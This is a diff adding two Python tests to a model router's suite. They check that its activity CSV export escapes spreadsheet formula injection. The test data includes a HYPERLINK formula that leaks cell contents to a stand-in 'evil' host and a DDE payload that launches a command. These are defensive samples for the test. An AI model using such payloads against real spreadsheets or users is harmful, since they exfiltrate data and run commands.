@@ -115,6 +115,49 @@ async def test_activity_is_bounded_filtered_exported_and_kept_in_its_file(tmp_pa
     await again.close()
 
 
+async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    start_router: RouterFactory, dummy_model: Path
+) -> None:
+    """A client chooses the model id and path it sends; a cell starting with `=`, `+`, `-`, `@`, a tab
+    or a carriage return would be run as a formula by a spreadsheet, so it is written as text."""
+    router = await start_router({"m": fake_profile(dummy_model)})
+    hostile = [
+        '=HYPERLINK("http://evil/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+    ]
+    for model in hostile:
+        status, body = await router.chat(model)
+        assert status == 404, body
+
+    async def rows() -> list[dict[str, Any]]:
+        return (await get_json(router, "/activity"))[1]["activity"]
+
+    await wait_until(lambda: _count(rows, len(hostile)), what="the activity rows")
+    async with router.session.get("/activity.csv") as response:
+        assert response.status == 200
+        exported = list(csv.DictReader(io.StringIO(await response.text())))
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for entry in exported for cell in entry.values() if cell.startswith(formula)]
+    models = {entry["model"] for entry in exported}
+    assert {"'" + model for model in hostile[:4]} <= models, models
+    assert all(entry["status"] == "404" for entry in exported), "numbers stay numbers"
+
+
+async def test_the_csv_export_quotes_tabs_and_carriage_returns_too(tmp_path: Path) -> None:
+    """Ids with control characters are escaped before they are kept; a stored one is still safe."""
+    store = ActivityStore(tmp_path / "activity.sqlite3")
+    await store.open()
+    store.add(row("\t=1+2", error="\r@x", client="-1"))
+    await store.flush()
+    [entry] = list(csv.DictReader(io.StringIO(await store.csv(), newline="")))
+    assert (entry["model"], entry["error"], entry["client"]) == ("'\t=1+2", "'\r@x", "'-1")
+    await store.close()
+
+
 async def test_an_unusable_activity_file_costs_the_log_not_the_router(tmp_path: Path) -> None:
     path = tmp_path / "activity.sqlite3"
     path.write_bytes(b"this is not a database" * 100)
